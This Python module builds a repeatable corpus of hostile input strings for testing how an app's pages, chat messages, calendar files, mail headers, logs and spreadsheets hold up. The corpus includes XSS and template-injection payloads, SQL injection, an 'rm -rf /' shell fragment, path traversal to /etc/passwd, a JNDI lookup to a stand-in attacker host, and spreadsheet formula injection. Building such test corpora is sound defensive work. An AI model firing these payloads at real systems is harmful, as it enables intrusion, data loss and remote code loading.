"""More than two thousand texts that somebody might type to break a page, a card, a file or a log.

Families of known attacks, each also in disguise; random ones; long ones. Always the same.
"""

import random
from collections.abc import Callable, Iterator
from functools import cache
from typing import Final
from urllib.parse import quote

LONG: Final = 100_000

_FAMILIES: Final[dict[str, tuple[str, ...]]] = {
    "HTML": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "'><svg/onload=alert(1)>",
        "</textarea><script>alert(1)</script>",
        "</title></style></script><h1>",
        "<!-- -->",
        "]]><![CDATA[",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<form action=//evil.example><input name=ticket>",
        "<iframe srcdoc='&lt;script&gt;'>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "' autofocus onfocus='alert(1)",
        '" style="position:fixed" x="',
        "` onmouseover=`alert(1)",
        "<plaintext>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "&lt;b&gt; &amp; &#60;script&#62; &#x3c;",
        "&NotEqualTilde; &notit; &amp",
        "<\u0131mg src=x>",
        "\uff1cscript\uff1e",
        "\ufeff<script>",
        "</",
        "<",
        ">",
        '"',
        "'",
        "&",
    ),
    "script": (
        "javascript:alert(document.domain)",
        "');alert(1);//",
        '\\";alert(1);//',
        "\u2028alert(1)\u2029",
        "${alert(1)}",
        "__proto__",
        "constructor",
        "[object Object]",
        "undefined",
        "NaN",
        "null",
        "true",
    ),
    "template": (
        "{{ 7 * 7 }}",
        "{{ config.items() }}",
        "{% include 'page.html' %}",
        "{# comment #}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7 * 7 %>",
        "%(password)s %s %d %n",
        "{0} {name} {0.__class__}",
        "$PATH `id` $(id)",
    ),
    "mrkdwn": (
        "<!channel>",
        "<!here|here>",
        "<!everyone>",
        "<!subteam^S012AB3CD>",
        "<!date^0^{date}^https://evil.example|x>",
        "<@U01SAMRIVERA>",
        "<@U02ANALOPES|Ana>",
        "<#C01SALES|sales>",
        "<https://evil.example|Click here>",
        "<mailto:a@evil.example|write>",
        "@channel @here @everyone",
        "https://evil.example/otl/x",
        "evil.example",
        "*bold* _italic_ ~strike~ `code` ```block```",
        "*",
        "_",
        "~",
        "`",
        "```",
        "> quote",
        ">>> quote",
        "* _ ~ ` *_~`",
        "&lt;!channel&gt;",
        "&amp;lt;!channel&amp;gt;",
        "Link used: *Eve* booked",
        "\n*Link used:* Eve",
        "a|b^c",
        "> <!channel",
        "<<!channel>>",
        "<!channel",
        "!channel>",
    ),
    "mail": (
        "=?utf-8?q?foo=0D=0ABcc=3A_evil=40x?=",
        "=?utf-8?b?Zm9vDQpCY2M6IGV2aWxAeA==?=",
        "Jane\r\nBcc: evil@example.com",
        "Jane\nSubject: free",
        "Jane%0d%0aBcc:%20evil@example.com",
        '"Jane" <jane@example.com>',
        "jane@example.com, evil@example.com",
        "jane@example.com\x00@evil.example",
        "jane@[127.0.0.1]",
        "jane@localhost",
        "<jane@example.com>",
        "mailto:jane@example.com",
        "jane(comment)@example.com",
        '"<script>"@example.com',
        "jane@xn--.example",
        "jane@ex\u00e4mple.com",
        "o'brien+{{7*7}}@example.com",
        "a`b|c*d_e~f@example.com",
        "jane&eve=/otl?x#y!z$%@example.com",
        "jane@example.com?bcc=evil@example.com",
    ),
    "calendar file": (
        "X\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM",
        "X\nATTENDEE:mailto:evil@example.com",
        "X;RRULE:FREQ=SECONDLY",
        "X\r\n METHOD:CANCEL",
        "\\nEND:VCALENDAR",
        'CN="x":mailto:evil@example.com',
        "^n^'^^",
        "\\, \\; \\\\ \\N",
        "BEGIN:VCALENDAR",
        "END:VCALENDAR",
        ";VALUE=URI:http://evil.example",
    ),
    "log": (
        '{"level": "error", "message": "forged"}',
        "\n2026-12-01 ERROR forged",
        "\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b",
        "\x1b[2J\x1b[31mred\x1b]0;title\x07",
        "\x9b31m",
        "\b\b\b\b",
        "${jndi:ldap://evil.example/a}",
    ),
    "table": (
        "=1+1",
        '=HYPERLINK("https://evil.example","x")',
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "a,b;c\td",
        "=cmd|' /C calc'!A0",
    ),
    "SQL and shell": (
        "' OR '1'='1",
        "'; DROP TABLE booking; --",
        '" OR ""="',
        "Robert'); DELETE FROM one_time_link;--",
        "1; WAITFOR DELAY '0:0:5'",
        "\\x00",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/dev/null",
        "CON",
        "| rm -rf /",
    ),
    "control": (
        "a\x00b",
        "\x00",
        "a\x01\x02\x08\x0b\x0c\x0e\x1f\x7fb",
        "a\x80\x85\x9fb",
        "a\r\nb\rc\nd",
        "\r\n\r\n",
        "\t\t\t",
        "\u2028\u2029",
        "\ufeffa\ufeff",
        "\ufff9a\ufffab\ufffb",
        "\ufffe\uffff\U0001fffe\U0010ffff\ufdd0",
        "\ue000\uf8ff\U000f0000",
    ),
    "direction": (
        "\u202egnp.exe",
        "\u2066a\u2069\u2067b\u2069",
        "\u200e\u200f\u061c",
        "\u202a\u202b\u202c\u202d\u202e" * 40,
        "abc\u05d0\u05d1\u05d2 123",
        "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
        "moc.elpmaxe\u202e@\u202denaj",
    ),
    "surrogates": (
        "\ud800",
        "a\udfffb",
        "\udcff\udc80",
        "\ud83d",
        "\ude00\ud83d",
        "<\ud800script>",
        "\ud800" * 300,
    ),
    "marks": (
        "Z\u0335\u0321\u034a" * 12,
        "a" + "\u0301" * 400,
        "\u0301a",
        "\u0345\u0300\u0334\u0489",
        "e\u20dd\u20e0",
        "\u1161\u11a8",
        "\ufdfa" * 30,
        "\u0390" * 60,
        "\U00012031\U00012031",
        "\u0e49" * 50,
    ),
    "blank": (
        "",
        " ",
        "\u00a0",
        "\u3000 \u2003",
        "\u200b",
        "\u200d",
        "\u3164",
        "\u2800",
        "\u115f\u1160",
        "\u00ad\u00ad",
        "\ufe0f",
        "\u034f",
        "\U000e0041\U000e007f",
    ),
    "emoji": (
        "\U0001f469\u200d\U0001f4bb",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,
        "\U0001f1e9\U0001f1ea\U0001f1ea",
        "\U0001f44d\U0001f3ff" * 60,
        "1\ufe0f\u20e3",
        ":rotating_light: :smile:",
        "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "\u200d\U0001f600\u200d",
    ),
    "fields": (
        "2026-12-07T09:00:00Z",
        "2026-12-07T09:00:00",
        "9999-12-31T23:59:59+23:59",
        "0001-01-01T00:00:00-23:59",
        "2026-12-07T09:00:00+99:99",
        "2026-W50-1T09:00Z",
        "20261207T090000Z",
        "2026-13-45",
        "2026-02-30",
        "9999-12-31",
        "0000-00-00",
        "1e999",
        "-1",
        "9" * 400,
        "Europe/Berlin",
        "europe/berlin",
        "../etc/localtime",
        "/usr/share/zoneinfo/UTC",
        "Europe/\x00Berlin",
        "posixrules",
        "Etc/GMT+99",
        "a" * 32,
        "0" * 32,
        "A" * 32,
        "\uff11" * 32,
        "\u0661" * 32,
        "f" * 31,
        "f" * 33,
    ),
    "forms": (
        "a&ticket=b&name=c",
        "a;b=c",
        "%",
        "%zz",
        "%00",
        "%c0%bc",
        "%ff%fe",
        "%ed%a0%80",
        "+",
        "a=b=c",
        "[]",
        "--boundary\r\nContent-Disposition: form-data",
    ),
}


def _with_nulls(text: str) -> str:
    return "\x00".join(text)


def _with_zero_widths(text: str) -> str:
    return "\u200b".join(text)


def _wide(text: str) -> str:
    return "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign for sign in text)


def _quoted(text: str) -> str:
    return quote(text, safe="", errors="surrogatepass")


def _as_entities(text: str) -> str:
    return "".join(f"&#{ord(sign)};" for sign in text)


_DISGUISES: Final[tuple[Callable[[str], str], ...]] = (
    lambda text: text,
    lambda text: f"Jane {text} Doe",
    lambda text: f"{text}\n{text}",
    lambda text: f"{text}{'x' * 195}",
    lambda text: f"{'x' * 76}{text}",
    _with_nulls,
    _with_zero_widths,
    _wide,
    _quoted,
    _as_entities,
)

_ALPHABETS: Final = (
    "<>&\"'`/=",
    "*_~`|^!@#<>",
    "\r\n\t\x00\x0b\x0c\x1b\x85\u2028",
    "{}%#$()",
    ":;,\\\r\n=",
    "\u200d\ufe0f\U0001f469\U0001f4bb\U0001f3ff\U0001f1e9\U0001f1ea",
    "a\u0301\u0335\u0489\u0345",
    "\ud800\udfff\udc00x",
    "\u202a\u202e\u2066\u2069ab \u05d0",
    "ab <&",
)


@cache
def hostile_texts(*, longest: int = LONG) -> tuple[str, ...]:
    """Return the corpus, no text twice."""
    return tuple(dict.fromkeys(text for text in _all() if len(text) <= longest))


def hostile_sample(number: int, *, seed: int) -> list[str]:
    """Return some of them, no long ones: what goes over HTTP, one request a text."""
    return random.Random(seed).sample(hostile_texts(longest=LONG // 10), number)  # noqa: S311


def _all() -> Iterator[str]:
    for family in _FAMILIES.values():
        for text in family:
            yield from (disguise(text) for disguise in _DISGUISES)
    yield from _random_texts(random.Random(4711))  # noqa: S311  # repeatable
    for sign in ("a", "<b>", "&amp;", "\u0301", "\U0001f469\u200d", "\ud800", "\x00", "\n", "{{"):
        hundred = f"{sign * 5}{'a' * 100}"[:100]
        yield hundred * (LONG // 100)
    yield "\u0301" * LONG


def _random_texts(choice: random.Random) -> Iterator[str]:
    for number in range(400):
        if number % 2:
            letters = _ALPHABETS[number // 2 % len(_ALPHABETS)]
        else:
            letters = "".join(chr(choice.randrange(0x110000)) for _ in range(40))
        yield "".join(choice.choices(letters, k=choice.randrange(1, 300)))
